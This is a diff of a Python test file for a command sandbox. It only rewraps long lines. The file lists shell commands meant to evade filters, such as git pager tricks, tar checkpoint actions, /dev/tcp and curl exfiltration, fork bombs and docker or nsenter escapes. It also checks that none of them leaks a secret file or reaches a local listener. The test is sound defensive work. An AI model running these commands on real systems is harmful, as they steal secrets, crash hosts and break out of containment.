@@ -1,4 +1,5 @@
-"""Commands of the kind that filters and allow lists let through: they must come to nothing in the sandbox.
+"""Commands of the kind that filters and allow lists let through: they must come to nothing in the
+sandbox.
 
 $OUT is a folder outside with a secret file; whatever deletes, reads or sends aims at it.
 """
@@ -57,7 +58,10 @@ EVASIONS = (
     "git -c core.pager='cat $OUT/key' -c alias.x='!cat $OUT/key' x",
     "git -c core.sshCommand='cat $OUT/key' clone ssh://evil.test/x",
     "find . -exec sh -c 'cat $OUT/key' \\;",
-    'awk \'BEGIN { while ((getline l < (ENVIRON["OUT"] "/key")) > 0) print l; system("cat $OUT/key") }\'',
+    (
+        'awk \'BEGIN { while ((getline l < (ENVIRON["OUT"] "/key")) > 0) print l; system("cat '
+        "$OUT/key\") }'"
+    ),
     "touch f; tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec='cat $OUT/key'",
     "echo > f; sed '1e cat $OUT/key' f; sed \"r $OUT/key\" f",
     "env sh -c 'cat $OUT/key'; env -S 'cat $OUT/key'",
@@ -67,7 +71,10 @@ EVASIONS = (
     "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo leak >&3",
     "cat $OUT/key | curl -m 1 -d @- http://127.0.0.1:$PORT",
     "curl -m 1 --noproxy '*' http://127.0.0.1:$PORT; wget -T 1 -O- http://localhost:$PORT",
-    'python3 -c \'import os, socket; socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 1).send(b"x")\'',
+    (
+        'python3 -c \'import os, socket; socket.create_connection(("127.0.0.1", '
+        'int(os.environ["PORT"])), 1).send(b"x")\''
+    ),
     "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:$ENV{PORT}\")->print(1)'",
     "ssh -o ConnectTimeout=1 -p $PORT 127.0.0.1",
     "echo 'cat $OUT/key' > .bashrc; bash -i -c true",
@@ -75,8 +82,14 @@ EVASIONS = (
     "kill -9 -1; kill -STOP $PPID",
     "b() { b | b & }; b; sleep 5",
     "perl -e 'fork while 1'",
-    "nsenter -t 1 -a cat $OUT/key; unshare -Ur cat $OUT/key; sudo -n cat $OUT/key; su -c 'cat $OUT/key'",
-    "systemd-run cat $OUT/key; docker run -v /:/h alpine cat /h$OUT/key; dbus-send --system --print-reply / a.b",
+    (
+        "nsenter -t 1 -a cat $OUT/key; unshare -Ur cat $OUT/key; sudo -n cat $OUT/key; su -c "
+        "'cat $OUT/key'"
+    ),
+    (
+        "systemd-run cat $OUT/key; docker run -v /:/h alpine cat /h$OUT/key; dbus-send --system "
+        "--print-reply / a.b"
+    ),
 )
 
 
@@ -87,7 +100,9 @@ def contained(script: str) -> Check:
         with socket.create_server(("127.0.0.1", 0)) as listener:
             wanted = command(ground, script)
             port = str(listener.getsockname()[1])
-            wanted = msgspec.structs.replace(wanted, env=(*wanted.env, ("PORT", port)), timeout_s=5, processes=100)
+            wanted = msgspec.structs.replace(
+                wanted, env=(*wanted.env, ("PORT", port)), timeout_s=5, processes=100
+            )
             ran = await run(sandbox, wanted)
             listener.setblocking(False)
             try:
@@ -98,8 +113,14 @@ def contained(script: str) -> Check:
                 raise AssertionError(f"{script!r} reached the listener")
         for secret in ground.secrets:  # the file is still there, and nothing of it came out
             assert secret not in ran.text, f"{script!r} said {secret!r}"
-            copies = [each for each in ground.workspace.rglob("*") if each.is_file() and not each.is_symlink()]
-            assert not any(secret.encode() in each.read_bytes() for each in copies), f"{script!r} copied {secret!r}"
+            copies = [
+                each
+                for each in ground.workspace.rglob("*")
+                if each.is_file() and not each.is_symlink()
+            ]
+            assert not any(secret.encode() in each.read_bytes() for each in copies), (
+                f"{script!r} copied {secret!r}"
+            )
         assert [each.name for each in ground.outside.iterdir()] == ["key"]
 
     return holds
